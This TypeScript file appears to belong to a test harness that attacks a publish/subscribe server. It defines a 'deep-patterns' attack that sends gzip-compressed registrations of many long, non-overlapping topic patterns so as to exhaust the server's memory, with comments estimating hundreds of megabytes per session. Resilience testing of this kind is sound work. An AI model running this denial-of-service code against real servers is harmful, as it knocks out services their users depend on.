/**
 * Patterns of as many tokens as fit. Each token is a node of the topic tree with a table of its own, so that two bytes
 * of a pattern, compressed to nearly nothing, cost hundreds of bytes: without a bound, 500 MB for a session.
 */
import type { Attack } from "../attack.js";
import { hello, METHOD, register, registration } from "./messages.js";

const SESSIONS = 9;
const REGISTRATIONS = 10_000;
const TOKENS = 127;
/** Registrations of one message: it must not exceed 1 MiB. */
const PER_MESSAGE = 3_500;

export const deepPatterns: Attack = {
  name: "deep-patterns",
  sends: `Produce, gzipped: ${SESSIONS} sessions with ${REGISTRATIONS} patterns of ${TOKENS} tokens`,
  async run(attacker) {
    const connection = attacker.connect();
    for (let session = 0; session < SESSIONS && attacker.goesOn; session++) {
      const stream = connection.open(METHOD.produce, { gzip: true });
      stream.send(hello());
      for (let first = 0; first < REGISTRATIONS; first += PER_MESSAGE) {
        const count = Math.min(PER_MESSAGE, REGISTRATIONS - first);
        const patterns = Array.from({ length: count }, (_, i) => registration(pattern(session, first + i)));
        await stream.sendInTurn(register(patterns));
        await attacker.wait(50);
      }
    }
    await attacker.wait(2_000);
  },
};

/** A pattern that shares no node with another: the first tokens are its number. */
function pattern(session: number, index: number): string {
  const number = [session, ...String(index).padStart(5, "0")];
  return [...number, ...Array<string>(TOKENS - 1 - number.length).fill("a"), "*"].join(".");
}
